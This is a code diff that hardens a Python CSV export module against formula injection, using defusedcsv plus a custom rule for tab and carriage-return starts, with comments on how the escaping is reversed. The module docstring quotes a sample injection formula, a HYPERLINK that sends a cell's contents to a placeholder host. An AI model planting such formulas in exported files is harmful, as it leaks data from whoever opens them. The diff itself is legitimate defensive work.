@@ -9,16 +9,21 @@ CSV comes in two flavours because no single file opens right everywhere:
 and spreadsheet imports; `<name>s-excel.csv` adds a UTF-8 BOM and uses `;`,
 which is what Excel needs to show å ä ö and split the columns when it opens
 a file by double-click with Swedish regional settings.
+
+Both are written through defusedcsv, because a spreadsheet runs a cell that
+starts with a formula character (CSV or formula injection): a title such as
+`=HYPERLINK("https://x.example/?"&A1)` would otherwise become a live formula
+on the computer of whoever opens the file. See `defuse_cell`.
 """
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import io
 import json
 from typing import TYPE_CHECKING, Any, get_args, get_origin
 
+from defusedcsv import csv as defusedcsv
 from pydantic import BaseModel
 
 from .arena import Arena, Record
@@ -96,10 +101,37 @@ def csv_cell(value: Any) -> str:
     return str(value)
 
 
+# What defusedcsv 3.0.0 does (read in its source, defusedcsv/csv.py `_escape`): a cell that starts
+# with = + - @ | or % gets an apostrophe in front, which spreadsheets read as "this is text", and
+# every | in that cell becomes \| (the pipe is how old DDE formulas call programs). Cells that are
+# plain numbers (-12, -1,5, -0.5) are left alone, so negative numbers stay numbers; a "-" alone or
+# "- text" gets the apostrophe, which costs nothing but a visible ' in a text cell.
+# OWASP also names tab and carriage return as formula starts; defusedcsv leaves those alone, so
+# they get the same treatment here. (Our models strip leading whitespace, so today no cell can
+# start with either; this keeps the rule whole if that ever changes.)
+DEFUSEDCSV_STARTS = ("=", "+", "-", "@", "|", "%")
+OWASP_EXTRA_STARTS = ("\t", "\r")
+FORMULA_STARTS = DEFUSEDCSV_STARTS + OWASP_EXTRA_STARTS
+
+
+def defuse_cell(cell: str) -> str:
+    """The part of the OWASP rule defusedcsv lacks, done the way defusedcsv does the rest.
+
+    A reader undoes all of it the same way: a cell that starts with ' followed by one of
+    FORMULA_STARTS loses the ' and gets | back for \\| (documented on the Öppna data page).
+    The one value that rule misreads is one an editor wrote with a leading ' before such a
+    character ('=x): it is left as it is and reads back as =x. It is text to a spreadsheet
+    either way, so we accept that rather than diverge from defusedcsv; the JSON has it exact.
+    """
+    if cell.startswith(OWASP_EXTRA_STARTS):
+        return "'" + cell.replace("|", "\\|")
+    return cell
+
+
 def csv_document(arena: Arena, ctype: ContentType, site: SiteInfo, *, excel: bool = False) -> bytes:
     columns = csv_columns(ctype.model)
     buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n")
+    writer = defusedcsv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n")
     writer.writerow([column for column, _field, _sub in columns])
     for record in published(arena, ctype):
         data = item_data(record, site)
@@ -108,7 +140,7 @@ def csv_document(arena: Arena, ctype: ContentType, site: SiteInfo, *, excel: boo
             value = data.get(field)
             if sub is not None:
                 value = value.get(sub) if isinstance(value, dict) else None
-            row.append(csv_cell(value))
+            row.append(defuse_cell(csv_cell(value)))
         writer.writerow(row)
     text = buffer.getvalue()
     return ("\ufeff" + text if excel else text).encode("utf-8")
